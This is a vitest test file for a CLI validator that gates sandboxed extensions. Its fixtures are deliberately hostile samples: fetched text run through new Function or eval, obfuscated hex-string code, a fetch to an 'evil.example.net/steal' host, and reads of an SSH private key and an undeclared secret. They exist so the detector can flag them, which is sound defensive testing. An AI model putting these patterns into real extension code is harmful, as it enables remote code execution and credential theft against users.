// `warden validate` as a CI gate, through the built CLI: it refuses what the loader refuses
// (checked against `warden run` on the same folder), and --strict flags remote code, obfuscation,
// native addons, fetched wasm and permissions that do not match the code, as text, JSON and SARIF.
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import * as esbuild from 'esbuild';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli, tempDir, writeExtension } from '../helpers/sandbox';

const work = tempDir('warden-gate-');
const dataDir = path.join(work, 'data');
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

let n = 0;
const ext = (source: string, permissions: Record<string, unknown> = {}) =>
  writeExtension(work, { id: `acme.gate${n++}`, source, manifest: { permissions } as never });

interface Finding {
  ruleId: string;
  level: string;
  message: string;
  file: string;
  line: number;
  column: number;
}
async function gate(dir: string, ...flags: string[]) {
  const r = await runCli(['validate', dir, '--format', 'json', ...flags]);
  const out = JSON.parse(r.stdout) as { ok: boolean; findings: Finding[]; problems: string[] };
  return { code: r.code, ...out, rules: out.findings.map((f) => f.ruleId) };
}

const ACTIVATE = (body: string) =>
  `exports.activate = (host) => {\n  host.commands.register('run', async () => {\n${body}\n  });\n};\n`;

describe('validate refuses what the loader refuses', () => {
  it('a literal dynamic import: validate exits 2 and run refuses it at the same line', async () => {
    const dir = ext(ACTIVATE("    const m = await import('https://cdn.example/x.js');\n    return m.default;"));
    const v = await runCli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toContain('error WG003: dist/extension.js:3:');
    expect(v.stderr).toContain('dynamic import() cannot run in the sandbox');
    const r = await runCli(['run', dir, 'run', '--data-dir', dataDir, '--json']);
    expect(r.code).not.toBe(0);
    expect(r.stdout + r.stderr).toContain('dist/extension.js:3: dynamic import() cannot run in the sandbox');
  });

  it('a direct eval: both refuse, and neither advises new Function for fetched code', async () => {
    const dir = ext(ACTIVATE('    return eval("1 + 1");'));
    const v = await gate(dir);
    expect(v.code).toBe(2);
    expect(v.findings).toMatchObject([{ ruleId: 'WG003', level: 'error', line: 3, column: 12 }]);
    const r = await runCli(['run', dir, 'run', '--data-dir', dataDir, '--json']);
    expect(r.stdout + r.stderr).toContain('a direct eval(...) cannot run in the sandbox');
    for (const text of [v.findings[0]!.message, r.stdout + r.stderr]) expect(text).not.toMatch(/new Function/);
  });

  it('a syntax error is located as the loader locates it', async () => {
    const dir = ext('exports.activate = () => {\n  let x = ;\n};\n');
    const v = await gate(dir);
    expect(v.code).toBe(2);
    expect(v.findings).toMatchObject([{ ruleId: 'WG002', line: 2, column: 11 }]);
  });

  it('look-alikes in strings and comments are not refused (the loader rewrites them)', async () => {
    const dir = ext(
      `// call import('x') or eval(y) <!-- here\nexports.s = "<!-- import(a) eval(b) -->";\n${ACTIVATE('    return 1;')}`,
    );
    expect(await gate(dir)).toMatchObject({ code: 0, ok: true, findings: [] });
  });
});

describe('--strict: network or stored data run as code', () => {
  const cases: Array<[string, string]> = [
    [
      'new Function(await r.text())()',
      "    const r = await host.net.fetch('https://api.example.com/x');\n    return new Function(await r.text())();",
    ],
    [
      'storage → variable → template → indirect eval',
      "    const saved = await host.storage.get('script');\n    let code;\n    code = `(${saved})`;\n    return (0, eval)(code);",
    ],
    [
      '.then chain into Function()',
      "    return host.net.fetch('https://api.example.com/x').then((r) => r.text()).then((src) => Function('host', src)(host));",
    ],
    [
      'a helper that returns fetched text, an alias of eval',
      "    async function load(u) { const res = await host.net.fetch(u); return res.json(); }\n    const run = globalThis.eval;\n    const body = (await load('https://api.example.com/x')).code;\n    return run(body);",
    ],
    [
      'destructured host API and a parameter of a local function',
      "    const { fetch } = host.net;\n    const exec = (s) => new Function(s);\n    const t = await (await fetch('https://api.example.com/x')).text();\n    return exec(t);",
    ],
  ];
  it.each(cases)('%s', async (_name, body) => {
    const dir = ext(ACTIVATE(body), { net: ['https://api.example.com/**'] });
    expect((await gate(dir)).code, 'without --strict only loader rules apply').toBe(0);
    const v = await gate(dir, '--strict');
    expect(v.code).toBe(2);
    expect(v.rules).toContain('WG100');
    expect(v.findings.find((f) => f.ruleId === 'WG100')!.message).toMatch(
      /runs data from host\.(net\.fetch|storage\.get)/,
    );
  });

  it('constant code, parsed data and unrelated names in other functions are not flagged', async () => {
    const body = [
      "    const r = await host.net.fetch('https://api.example.com/x');",
      '    const data = JSON.parse(r.text());',
      "    const add = new Function('a', 'b', 'return a + b');",
      '    return add(data.a, data.b);',
      '  });',
      '  function other(t) { return new Function(t); }',
      "  other('return 1');",
      "  host.commands.register('x', async () => {",
    ].join('\n');
    const dir = ext(ACTIVATE(body), { net: ['https://api.example.com/**'] });
    const v = await gate(dir, '--strict');
    expect(v.rules).not.toContain('WG100');
  });

  it('WebAssembly compiled from fetched bytes', async () => {
    const body =
      "    const r = await host.net.fetch('https://api.example.com/m.wasm');\n    return WebAssembly.instantiate(r.body);";
    const v = await gate(ext(ACTIVATE(body), { net: ['https://api.example.com/**'] }), '--strict');
    expect(v.findings).toMatchObject([{ ruleId: 'WG101', level: 'error', line: 4 }]);
  });
});

describe('--strict: obfuscation, native addons', () => {
  it('javascript-obfuscator style output is flagged', async () => {
    const strings = Array.from(
      { length: 12 },
      (_, i) => `'${[...`value-${i}-text`].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`,
    );
    const src = [
      `var _0x4f2a = [${strings.join(', ')}];`,
      'var _0x1b3c = function (_0x5d1e, _0x2a9f) { _0x5d1e = _0x5d1e - 0x0; var _0x3c7d = _0x4f2a[_0x5d1e]; return _0x3c7d; };',
      ACTIVATE('    return _0x1b3c(0x1);'),
    ].join('\n');
    const v = await gate(ext(src), '--strict');
    expect(v.code).toBe(2);
    const messages = v.findings.filter((f) => f.ruleId === 'WG110').map((f) => f.message);
    expect(messages.join('\n')).toMatch(/_0x/);
    expect(messages.join('\n')).toMatch(/hex-escaped strings/);
  });

  it('a real minified library (zod, minified by esbuild) is not called obfuscated', async () => {
    const entry = createRequire(import.meta.url).resolve('zod');
    const built = await esbuild.build({
      entryPoints: [entry],
      bundle: true,
      minify: true,
      format: 'cjs',
      write: false,
      platform: 'neutral',
      mainFields: ['main', 'module'],
    });
    const dir = ext(`${built.outputFiles[0]!.text}\n${ACTIVATE('    return 1;')}`);
    const v = await gate(dir, '--strict');
    expect(v.rules.filter((r) => r !== 'WG120')).toEqual([]);
  });

  it('a bundled .node file is flagged', async () => {
    const dir = ext(ACTIVATE('    return 1;'));
    fs.mkdirSync(path.join(dir, 'build', 'Release'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'build', 'Release', 'addon.node'), 'not really ELF');
    const v = await gate(dir, '--strict');
    expect(v.findings).toMatchObject([{ ruleId: 'WG102', file: 'build/Release/addon.node' }]);
  });
});

describe('--strict: declarations against the code', () => {
  it('unused declarations are warnings (exit 0); literal targets outside them are errors', async () => {
    const unused = await gate(
      ext(ACTIVATE('    return 1;'), { net: ['https://api.example.com/**'], notifications: true }),
      '--strict',
    );
    expect(unused.code).toBe(0);
    expect(unused.findings.map((f) => [f.ruleId, f.level, f.file])).toEqual([
      ['WG120', 'warning', 'manifest.json'],
      ['WG120', 'warning', 'manifest.json'],
    ]);
    const body = [
      "    await host.net.fetch('https://api.example.com/ok');",
      "    await host.net.fetch('https://evil.example.net/steal');",
      '    await host.net.fetch(`https://other.example.org/${1}`);',
      "    await host.fs.readText('~/Documents/a.txt');",
      "    await host.fs.readText('~/.ssh/id_ed25519');",
      "    await host.fs.readText('notes.txt');",
      "    await host.secrets.get('OTHER_TOKEN');",
      "    await host.ui.notify('hi');",
    ].join('\n');
    const perms = { net: ['https://api.example.com/**'], 'fs.read': ['~/Documents/**'], secrets: ['API_TOKEN'] };
    const v = await gate(ext(ACTIVATE(body), perms), '--strict');
    expect(v.code).toBe(2);
    expect(v.findings.filter((f) => f.ruleId === 'WG121').map((f) => [f.line, f.message])).toEqual([
      [4, 'host.net.fetch("https://evil.example.net/steal") is outside the declared net patterns'],
      [5, 'host.net.fetch("https://other.example.org/…") reaches an origin no declared net pattern allows'],
      [7, 'host.fs.readText("~/.ssh/id_ed25519") is outside the declared fs.read patterns'],
      [9, 'host.secrets.get("OTHER_TOKEN") names a secret the manifest does not declare'],
      [10, 'host.ui.notify is called but the manifest does not declare "notifications"'],
    ]);
    expect(v.rules).not.toContain('WG120');
  });
});

describe('reports', () => {
  it('SARIF 2.1.0: rules, results with ruleId, level and a physical location', async () => {
    const dir = ext(
      ACTIVATE(
        "    const r = await host.net.fetch('https://api.example.com/x');\n    return new Function(await r.text())();",
      ),
      {
        net: ['https://api.example.com/**'],
        notifications: true,
      },
    );
    const r = await runCli(['validate', dir, '--strict', '--format', 'sarif']);
    expect(r.code).toBe(2);
    const sarif = JSON.parse(r.stdout);
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.$schema).toMatch(/sarif-schema-2\.1\.0\.json$/);
    const run = sarif.runs[0];
    const ids = run.tool.driver.rules.map((x: { id: string }) => x.id);
    expect(ids).toEqual(expect.arrayContaining(['WG003', 'WG100', 'WG110', 'WG120', 'WG121']));
    for (const rule of run.tool.driver.rules) {
      expect(rule.shortDescription.text.length).toBeGreaterThan(0);
      expect(['error', 'warning', 'note']).toContain(rule.defaultConfiguration.level);
    }
    expect(run.results).toEqual([
      expect.objectContaining({
        ruleId: 'WG100',
        level: 'error',
        ruleIndex: ids.indexOf('WG100'),
        locations: [
          {
            physicalLocation: {
              artifactLocation: { uri: 'dist/extension.js', uriBaseId: '%SRCROOT%' },
              region: { startLine: 4, startColumn: 12 },
            },
          },
        ],
      }),
      expect.objectContaining({ ruleId: 'WG120', level: 'warning' }),
    ]);
    for (const result of run.results) expect(result.message.text).toEqual(expect.any(String));
  });

  it('--json keeps ok, id and problems; an unknown format is a usage error', async () => {
    const dir = ext(ACTIVATE('    return 1;'));
    const v = await gate(dir);
    expect(v).toMatchObject({ code: 0, ok: true, problems: [], findings: [] });
    expect((await runCli(['validate', dir, '--format', 'xml'])).code).toBe(2);
    expect((await runCli(['validate', dir])).stdout).toMatch(/: valid\n$/);
  });
});

describe('deprecated host calls (API deprecation timeline)', () => {
  const body = [
    "    await host.fs.writeText('notes.txt', 'hello');",
    "    const a = await host.fs.read('notes.txt');",
    "    const b = await host.fs.read('notes.txt');",
    '    return `${a} ${b} ${host.extension.apiVersion}`;',
  ].join('\n');

  it('validate warns where the code calls one, and still passes', async () => {
    const v = await gate(ext(ACTIVATE(body)));
    expect(v.code).toBe(0);
    expect(v.findings.map((f) => [f.ruleId, f.level, f.line])).toEqual([
      ['WG010', 'warning', 4],
      ['WG010', 'warning', 5],
    ]);
    expect(v.findings[0]!.message).toMatch(
      /host\.fs\.read is deprecated since API 1\.0\.0 .*removed in 2\.0\.0.*readText/,
    );
  });

  it('run: the old name works through the shim, warned once per activation and audited', async () => {
    const dir = ext(ACTIVATE(body));
    const data = path.join(work, 'dep-data');
    const r = await runCli(['run', dir, 'run', '--data-dir', data, '--json']);
    expect(r.code, r.stderr + r.stdout).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, result: { text: 'hello hello 1.0.0' } });
    expect(r.stderr.match(/host\.fs\.read is deprecated/g)).toHaveLength(1);
    const audit = await runCli(['audit', '--data-dir', data, '--json']);
    const records = audit.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { kind: string; method?: string });
    expect(records.filter((x) => x.kind === 'deprecated-call')).toMatchObject([{ method: 'fs.read' }]);
  });
});
